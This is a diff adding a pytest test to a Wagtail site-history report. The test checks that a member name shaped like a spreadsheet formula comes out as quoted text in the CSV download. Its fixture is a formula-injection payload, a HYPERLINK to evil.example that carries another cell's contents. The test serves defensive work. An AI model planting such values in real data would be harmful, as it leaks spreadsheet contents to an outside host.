@@ -1,6 +1,9 @@
 """Wagtail's site history (Reports → Site history) lists the log entries of
 members: an organiser sees only those of members in their scope."""
 
+import csv
+import io
+
 import pytest
 from django.contrib.contenttypes.models import ContentType
 from django.urls import reverse
@@ -95,3 +98,23 @@ def test_people_without_admin_access_are_sent_to_the_login_page(client, people, 
     for response in (anonymous, helper):
         assert response.status_code == 302
         assert response["Location"].startswith(reverse("wagtailadmin_login"))
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_download(
+    client, tree, people
+):
+    # given a member whose name a spreadsheet would run as a formula, and whose
+    # password the county organiser set (an entry naming her in the log)
+    name = '=HYPERLINK("http://evil.example/?"&A3,"张三")'
+    member = services.member_create(
+        name=name, phone="13912345679", home_organisation=tree.a1a
+    )
+    services.member_password_set(member=member, password=PASSWORD, set_by=people.county)
+
+    # when the county organiser downloads the site history as CSV
+    rows = list(csv.reader(io.StringIO(exported(client, people.county))))
+
+    # then her name is quoted as text, as in every other export
+    cells = {cell for row in rows[1:] for cell in row}
+    assert "'" + name in cells
+    assert name not in cells
